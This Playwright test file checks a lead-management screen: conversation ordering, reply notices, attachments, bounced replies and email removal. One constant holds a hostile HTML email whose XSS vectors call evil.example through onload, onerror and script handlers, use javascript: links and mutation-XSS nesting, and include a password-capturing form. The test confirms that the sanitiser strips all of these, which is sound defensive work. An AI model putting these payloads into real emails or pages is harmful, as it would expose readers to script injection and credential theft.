import { readFileSync } from "node:fs";
import type { Page } from "@playwright/test";
import { expect, test } from "../../fixture.ts";
import { choose, hold, setUpEmail, toasts } from "../steps.ts";
import { arrives, comesBack, conversation, fileOf, items } from "./answer-steps.ts";
import { add, ana, reader, SCREEN, setStatus, statusShown } from "./submission-steps.ts";

test.beforeEach(async ({ site, signIn }) => {
  await site.sql`delete from contact_submissions`;
  await site.sql`delete from private.refused_addresses`;
  await setUpEmail(site);
  await signIn();
});

const text = (page: Page) => reader(page).getByLabel("Your reply");
const item = (page: Page, words: string | RegExp) => items(page).filter({ hasText: words });
const menuOf = (page: Page, who: string) =>
  conversation(page).getByRole("button", { name: `More for the email from ${who}` });

test("shows form, reply, note, answers and events in order, and folds what is rarely read", async ({
  page,
  site,
  expectAccessible,
}) => {
  const id = await add(site, { message: "How much is that?", status: "responded" });
  await site.sql`insert into submission_notes (submission_id, author_email, body)
    values (${id}, 'lee@example.com', 'Called back.')`;
  await arrives(site, id, {
    text: "Yes, please.\n\nOn Nov 5, 2026, Evergreen wrote:\n> Ten dollars.",
  });
  await arrives(site, id, {
    kind: "auto_reply",
    subject: "Out of office",
    text: "Back on Monday.",
  });
  await arrives(site, id, { sender: "ben@halfmoon.example", sender_name: "Ben Okafor" });
  await page.goto(`${SCREEN}?open=${id}`);
  // Answering a lead that was done opens it again.
  await statusShown(page, "Contacted");
  await expect(items(page)).toHaveText([
    /^Ana Ruiz.*How much is that\?/s,
    /^Note by lee@example\.com.*Called back\./,
    /^Ana RuizEmail .*Yes, please\./s,
    /^Status: Responded → Contacted/,
    /^Automatic reply · Ana Ruiz/,
    /^Ben Okaforben@halfmoon\.example .*Thanks, that works for us\./s,
  ]);
  const quoted = conversation(page).getByText("> Ten dollars.");
  await expect(quoted).toBeHidden();
  await conversation(page).getByRole("button", { name: "Show quoted text" }).click();
  await expect(quoted).toBeVisible();
  await expectAccessible();
  await conversation(page).getByRole("button", { name: "Hide quoted text" }).click();
  await expect(quoted).toBeHidden();
  await expect(conversation(page).getByText("Back on Monday.")).toBeHidden();
  await conversation(page).getByText("Automatic reply").click();
  await expect(conversation(page).getByText("Back on Monday.")).toBeVisible();

  await site.sql`update contact_submissions set follow_up_on = '2030-01-01' where id = ${id}`;
  for (const status of ["closed", "new", "contacted"])
    await site.sql`update contact_submissions set status = ${status} where id = ${id}`;
  await page.reload();
  await expect(item(page, /New → Contacted/)).toBeVisible();
  await expect(item(page, "Follow-up: Jan 01, 2030")).toBeHidden();
  await conversation(page).getByRole("button", { name: "Show 3 events" }).click();
  await expect(item(page, "Follow-up: Jan 01, 2030")).toBeVisible();
});

test("reads the newest answer, and says that no reply is needed", async ({
  page,
  site,
  expectConsole,
}) => {
  expectConsole(/status of 500/);
  const id = await add(site, { message: "word\n".repeat(500) });
  await page.clock.install();
  await page.goto(`${SCREEN}?open=${id}`);
  await expect(item(page, /word\s+word/)).toBeVisible();
  await expect(conversation(page).getByText("Loading…")).toBeHidden();
  const notice = reader(page).getByRole("region", { name: "New reply" });
  await expect(notice).toBeHidden();
  const newAnswer = async () =>
    (await site.sql`select new_answer_at from contact_submissions where id = ${id}`)[0]
      ?.new_answer_at;
  await arrives(site, id, { text: "First answer." });
  await arrives(site, id, { text: `Second answer.\n${"line\n".repeat(80)}` });
  await lookAgain(page);
  await expect(notice.getByText("Ana Ruiz replied just now.")).toBeVisible();
  const answer = item(page, "Second answer.");
  // The lead may be read before its conversation, whose newest answer is then still the first.
  await expect(answer).toBeVisible();
  await expect(answer).not.toBeInViewport();
  await notice.getByRole("button", { name: "Read it" }).click();
  await expect(answer).toBeFocused();
  await expect(answer.getByText("Second answer.")).toBeInViewport();

  await page.route("**/rest/v1/contact_submissions?*", (route) =>
    route.request().method() === "PATCH" ? route.fulfill({ status: 500 }) : route.continue(),
  );
  await notice.getByRole("button", { name: "No reply needed" }).click();
  await expect(toasts(page).getByText("Failed to update lead")).toBeVisible();
  await page.unroute("**/rest/v1/contact_submissions?*");
  await notice.getByRole("button", { name: "No reply needed" }).click();
  await expect(toasts(page).getByText("No reply needed")).toBeVisible();
  await expect(notice).toBeHidden();
  expect(await newAnswer()).toBeNull();
  await toasts(page).getByRole("button", { name: "Undo" }).click();
  await expect(notice).toBeVisible();
  await expect.poll(newAnswer).toBeInstanceOf(Date);

  const since = await newAnswer();
  await setStatus(page, "Closed");
  await expect(notice).toBeHidden();
  const closed = toasts(page).getByRole("group").filter({ hasText: "Ana Ruiz: Closed" });
  await closed.getByRole("button", { name: "Undo" }).click();
  // The screen shows it before the answer of the database.
  await expect.poll(newAnswer).toEqual(since);
  await expect(notice).toBeVisible();
});

/** What an email may try. The parts that look like an address end in a name that tells them apart. */
const HOSTILE = `
  <html><head><base href="https://evil.example/base/"><title>Title</title>
  <meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
  <link rel="stylesheet" href="https://evil.example/sheet.css">
  <style>@import url(https://evil.example/import.css); p { background: url(https://evil.example/style.png) }</style>
  </head><body background="https://evil.example/body.png" onload="fetch('https://evil.example/onload')">
  <p style="color: red; background-image: url(https://evil.example/attribute.png)">Hello</p>
  <p style="--x: u\\72l(https://evil.example/custom.png); background: var(--x)">Styled</p>
  <script>parent.document.title = "taken"; fetch("https://evil.example/script")</script>
  <img src="https://evil.example/pixel.png" onerror="fetch('https://evil.example/onerror')" alt="Pixel">
  <img src="//evil.example/relative.png" srcset="https://evil.example/srcset.png 2x">
  <img src="data:image/svg+xml,%3Csvg%20onload='alert(1)'/%3E"><img src="x" onerror="alert(1)">
  <img src="data:image/png;base64,iVBORw0KGgo=" alt="Inline">
  <form action="https://evil.example/form"><input name="password" autofocus><button>Send</button></form>
  <a href="javascript:alert(1)">Script</a> <a href="data:text/html,<script>alert(1)</script>">Data</a>
  <a href="https://halfmoon.example/terms" target="_top" rel="opener" onclick="alert(1)">Terms</a>
  <svg><style><img src=x onerror=alert(1)></style><a xlink:href="javascript:alert(1)"><text>SVG</text></a></svg>
  <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
  <video poster="https://evil.example/poster.png" src="https://evil.example/video.mp4"></video>
  <audio src="https://evil.example/audio.mp3" autoplay></audio>
  <table background="https://evil.example/table.png"><tr><td bgcolor="#ffffff" width="100">Cell</td></tr></table>
  <template><img src="https://evil.example/template.png"></template><noscript><img src="https://evil.example/noscript.png"></noscript>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></math>
  </body></html>`;

/** An open lead looks again every 15 seconds. */
const lookAgain = (page: Page) => page.clock.fastForward(15_000);

/** A picture that isn't loaded. */
const hidden = (attributes = "") => `<img ${attributes}style="max-width: 100%;">`;

test("shows an email's HTML without letting it run or load anything", async ({
  page,
  site,
  expectConsole,
}) => {
  // Scripts that these tests inject into each frame don't run in the email's.
  expectConsole(/Blocked script execution in 'about:srcdoc'|status of 500/);
  // The document that is cleaned has the page's policy, so it can't do anything either.
  expectConsole(/violates the following Content Security Policy directive.*\/assets\/original-/);
  const id = await add(site);
  await arrives(site, id, { text: "Plain words.", html: HOSTILE });
  const foreign: string[] = [];
  await page.route(
    ({ origin }) => origin !== new URL(site.url).origin,
    (route) => {
      foreign.push(route.request().url());
      return route.fulfill({ contentType: "image/png", body: Buffer.alloc(0) });
    },
  );
  await page.route("**/rest/v1/inbound_mails?select=body_html*", (route) =>
    route.fulfill({ status: 500 }),
  );
  await page.goto(`${SCREEN}?open=${id}`);
  await expect(conversation(page).getByText("Plain words.")).toBeVisible();
  await conversation(page).getByRole("button", { name: "Show original" }).click();
  await expect(conversation(page).getByText(/^Failed to load the original email/)).toBeVisible();
  await page.unroute("**/rest/v1/inbound_mails?select=body_html*");
  await conversation(page).getByRole("button", { name: "Try again" }).click();
  const frame = conversation(page).getByTitle("Original email");
  const mail = frame.contentFrame();
  await expect(mail.getByText("Cell")).toBeVisible();
  await expect(frame).toHaveAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
  const shown = () => frame.getAttribute("srcdoc").then((page) => page ?? "");
  const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/;
  expect(policy.exec(await shown())?.[1]).toBe(
    "default-src 'none'; style-src 'unsafe-inline'; img-src data:",
  );
  // All that is left of it, with the policy's document around it.
  const body = /<body[^>]*>(.*)<\/body>$/s;
  const left = body.exec(await shown())?.[1] ?? "";
  expect(
    left
      .split("\n")
      .map((line) => line.trim())
      .filter(Boolean),
  ).toEqual([
    '<p style="color: red;">Hello</p>',
    '<p style="background: var(--x);">Styled</p>',
    hidden('alt="Pixel" '),
    hidden(),
    `${hidden()}${hidden()}`,
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="Inline" style="max-width: 100%;">',
    "Send",
    "<a>Script</a> <a>Data</a>",
    '<a href="https://halfmoon.example/terms" target="_blank" rel="noopener noreferrer">Terms</a>',
    `${hidden()}<a>SVG</a>`,
    '<table><tbody><tr><td bgcolor="#ffffff" width="100">Cell</td></tr></tbody></table>',
  ]);
  await expect(mail.getByText("Hello")).toHaveCSS("color", "rgb(255, 0, 0)");
  expect(foreign).toEqual([]);

  await conversation(page).getByRole("button", { name: "Show images" }).click();
  await expect
    .poll(() => foreign.toSorted())
    .toEqual(["https://evil.example/pixel.png", "https://evil.example/relative.png"]);
  expect(policy.exec(await shown())?.[1]).toMatch(/img-src data: https:$/);
  await expect(conversation(page).getByRole("button", { name: "Show images" })).toBeHidden();
  expect(await page.title()).not.toBe("taken");

  const address = "https://halfmoon.example/terms";
  await page.context().route(address, (route) => route.fulfill({ contentType: "text/html" }));
  const opening = page.context().waitForEvent("page");
  await mail.getByRole("link", { name: "Terms" }).click();
  const terms = await opening;
  // A page that is still being opened can't answer.
  await terms.waitForURL(address);
  expect(await terms.evaluate(() => window.opener)).toBeNull();
  await terms.close();
  await conversation(page).getByRole("button", { name: "Show as text" }).click();
  await expect(frame).toBeHidden();
  await expect(conversation(page).getByText("Plain words.")).toBeVisible();
});

test("saves attachments byte for byte, and says which are too large", async ({
  page,
  site,
  expectConsole,
}) => {
  expectConsole(/status of 404/);
  const id = await add(site);
  const content = Buffer.from(Array.from({ length: 300 }, (_, place) => place % 256));
  const name = "Order volumes.html";
  await arrives(site, id, {
    attachments: [fileOf(name, content), fileOf("video.mov", null, 84_000_000)],
  });
  await arrives(site, id, { text: "The beginning", cut: true });
  await page.goto(`${SCREEN}?open=${id}`);
  const files = conversation(page).getByRole("list", { name: "Attachments" }).getByRole("listitem");
  await expect(files).toHaveText([
    /^Order volumes\.html 300 BytesDownload$/,
    /^video\.mov 80\.11 MBToo large to store\. Ask the sender for a link to it\.$/,
  ]);
  await expect(item(page, "The beginning")).toContainText(
    "Part of this email was too large to store.",
  );
  const get = conversation(page).getByRole("button", { name: `Download ${name}` });
  const downloading = page.waitForEvent("download");
  await get.click();
  const file = await downloading;
  expect(file.suggestedFilename()).toBe(name);
  expect(readFileSync(await file.path())).toEqual(content);
  await site.sql`delete from private.inbound_files`;
  await get.click();
  await expect(
    toasts(page).getByText("Failed to download the attachment: This attachment no longer exists"),
  ).toBeVisible();
});

test("answers an answer with its subject, and quotes it", async ({ page, site, expectConsole }) => {
  expectConsole(/Blocked script execution in 'about:srcdoc'|status of 500/);
  const id = await add(site, { message: "The form's message." });
  const message_id = "returns@halfmoon.example";
  await arrives(site, id, { message_id, subject: "RE: Prices", text: "What about returns?" });
  await page.route("**/rpc/inbound_state", (route) => route.fulfill({ status: 500 }));
  await page.goto(`${SCREEN}?open=${id}`);
  await expect(item(page, "What about returns?")).toBeVisible();
  await page.keyboard.press("e");
  await expect(text(page)).toBeFocused();
  await expect(reader(page).getByText(/^Failed to check where replies go/)).toBeVisible();
  await expect(reader(page).getByLabel("Subject")).toHaveValue("Re: Prices");
  await text(page).fill("Returns are $20 a month.");
  await reader(page).getByRole("button", { name: "Preview" }).click();
  const preview = page.getByRole("dialog", { name: "Reply preview" });
  await expect(preview.frameLocator("iframe").getByText("What about returns?")).toBeVisible();
  await expect(preview.frameLocator("iframe").getByText("The form's message.")).toBeHidden();
  await preview.getByRole("button", { name: "Close" }).click();
  await expect(preview).toBeHidden();
  await reader(page).getByRole("button", { name: "Send" }).click();
  await expect(item(page, "Returns are $20 a month.")).toContainText("Sending");
  await expect(reader(page).getByRole("region", { name: "New reply" })).toBeHidden();
  await site.sql`update mails set send_after = now() where attempts = 0`;
  await expect(item(page, "Returns are $20 a month.")).toContainText(/Sent to ana@/);
  const mails = (await site.outbox()).filter(({ to }) => to?.[0]?.address === ana.email);
  expect(mails.at(-1)).toMatchObject({ subject: "Re: Prices", inReplyTo: `<${message_id}>` });
  expect(mails.at(-1)?.text).toContain("> What about returns?");
});

test("says where replies go, and how to read them here", async ({ page, site }) => {
  const id = await add(site);
  const mailbox = (reply_address: string | null, error: string | null) =>
    site.sql`update private.inbound_mailbox set reply_address = ${reply_address}, error = ${error},
      arrived_at = null`;
  const write = async () => {
    await expect(conversation(page).getByText("No message.")).toBeVisible();
    await page.keyboard.press("e");
  };
  await mailbox(null, null);
  await page.goto(`${SCREEN}?open=${id}`);
  await write();
  const reply = reader(page).getByRole("region", { name: "Reply" });
  await expect(reply).toContainText(
    "Replies go to admin@example.com. To read them here, set up incoming email.",
  );
  await expect(reply.getByRole("link", { name: "set up incoming email" })).toHaveAttribute(
    "href",
    "/admin/system",
  );
  await mailbox("reply+*@example.com", "connect ECONNREFUSED 127.0.0.1:993");
  await page.reload();
  await write();
  await expect(reply).toContainText("Replies appear in this lead.");
  await expect(reply).toContainText(
    "The mailbox can't be read right now, so new replies arrive late.",
  );
  await mailbox(null, null);
});

test("shows a reply that came back, and asks before the next one", async ({
  page,
  site,
  expectAccessible,
  expectConsole,
}) => {
  expectConsole(/status of 428/);
  const id = await add(site, { message: "How much is that?" });
  await page.clock.install();
  await page.goto(`${SCREEN}?open=${id}`);
  await expect(item(page, "How much is that?")).toBeVisible();
  const send = async (words: string) => {
    await page.keyboard.press("e");
    await expect(text(page)).toBeFocused();
    await text(page).fill(words);
    // By key: what still loads above the button moves it away from a pointer.
    await reader(page).getByRole("button", { name: "Send" }).press("Enter");
  };
  await send("Ten dollars.");
  const sent = item(page, "Ten dollars.");
  await expect(sent).toContainText("Sending");
  await site.sql`update mails set send_after = now() where attempts = 0`;
  await expect(sent).toContainText("Sent to");
  const [mail] = await site.sql`select id from mails where kind = 'reply'`;
  await comesBack(site, id, mail?.id, "550 5.1.1 <ana@halfmoon.example>: user unknown");
  await lookAgain(page);
  await expect(sent).toContainText("Bounced");
  await expect(sent).toContainText("This mailbox doesn't exist.");
  await expect(item(page, "Reply bounced")).toBeVisible();
  await expectAccessible();

  const question = page.getByRole("alertdialog", { name: "Send to this address again?" });
  await sent.getByRole("button", { name: "Try again" }).click();
  await expect(question).toContainText(`An earlier email to ${ana.email} bounced.`);
  await question.getByRole("button", { name: "Cancel" }).click();
  await expect(question).toBeHidden();
  expect(await site.sql`select state from mails where kind = 'reply'`).toEqual([
    { state: "failed" },
  ]);

  await send("Did this arrive?");
  await expect(question).toBeVisible();
  await question.getByRole("button", { name: "Cancel" }).click();
  await expect(text(page)).toHaveValue("Did this arrive?");
  expect(await site.sql`select 1 from mails where kind = 'reply'`).toHaveLength(1);
  await reader(page).getByRole("button", { name: "Send" }).click();
  await question.getByRole("button", { name: "Send anyway" }).click();
  await expect(item(page, "Did this arrive?")).toBeVisible();
  await expect(question).toBeHidden();
  await sent.getByRole("button", { name: "Try again" }).click();
  await question.getByRole("button", { name: "Send anyway" }).click();
  await expect(toasts(page).getByText("Sending the reply again")).toBeVisible();
  await expect(sent).toContainText("Sent to");
});

test("removes an email from the lead, and returns it", async ({ page, site, expectConsole }) => {
  expectConsole(/status of (?:404|409)/);
  const id = await add(site, { message: "How much is that?" });
  const mail = await arrives(site, id);
  const leadOf = async () =>
    (await site.sql`select submission_id from inbound_mails where id = ${mail}`)[0]?.submission_id;
  await page.goto(`${SCREEN}?open=${id}`);
  const answer = item(page, "Thanks, that works for us.");
  const remove = () => choose(menuOf(page, "Ana Ruiz"), "Remove from this lead");
  const undo = toasts(page).getByRole("button", { name: "Undo" });
  await remove();
  await expect(toasts(page).getByText("Moved to Unmatched emails")).toBeVisible();
  await expect(answer).toBeHidden();
  await expect(conversation(page).getByRole("heading", { name: "Conversation" })).toBeFocused();
  expect(await leadOf()).toBeNull();
  await undo.click();
  await expect(toasts(page).getByText("Email returned to this lead")).toBeVisible();
  await expect(answer).toBeVisible();
  expect(await leadOf()).toBe(id);

  await remove();
  await expect(answer).toBeHidden();
  const other = await add(site, { name: "Ben Okafor" });
  await site.sql`update inbound_mails set submission_id = ${other} where id = ${mail}`;
  await undo.click();
  await expect(
    toasts(page).getByText(
      "Failed to return the email to this lead: Someone else has already handled this email",
    ),
  ).toBeVisible();
  await site.sql`update inbound_mails set submission_id = ${id} where id = ${mail}`;
  await page.reload();
  await expect(answer).toBeVisible();
  // The next look at the conversation would find it gone, too.
  await hold(page, /rest\/v1\/inbound_mails\?/);
  await site.sql`delete from inbound_mails`;
  await remove();
  await expect(
    toasts(page).getByText("Failed to remove the email: This email no longer exists"),
  ).toBeVisible();
});

test("shows earlier parts of a long conversation when asked", async ({ page, site }) => {
  const id = await add(site, { message: "How much is that?" });
  for (const n of Array(17).keys()) await arrives(site, id, { text: `Answer ${n + 1}.` });
  await page.goto(`${SCREEN}?open=${id}`);
  await expect(item(page, "Answer 17.")).toBeVisible();
  await expect(item(page, "Answer 2.")).toBeHidden();
  await expect(items(page)).toHaveCount(1 + 1 + 15);
  await conversation(page).getByRole("button", { name: "Show earlier" }).click();
  await expect(item(page, "Answer 2.")).toBeVisible();
  await expect(items(page)).toHaveCount(1 + 17);
});

test("shows the email that a lead was created from, in place of its message", async ({
  page,
  site,
}) => {
  const words = { message: "Do you ship candles?" };
  const mail = await arrives(site, await add(site), { text: words.message });
  const made = await add(site, words);
  await site.sql`update inbound_mails set submission_id = ${made} where id = ${mail}`;
  await page.goto(`${SCREEN}?open=${made}`);
  await expect(items(page)).toHaveText([
    /^Ana RuizEmail .*Do you ship candles\?$/s,
    /^Lead created from this email/,
  ]);
});
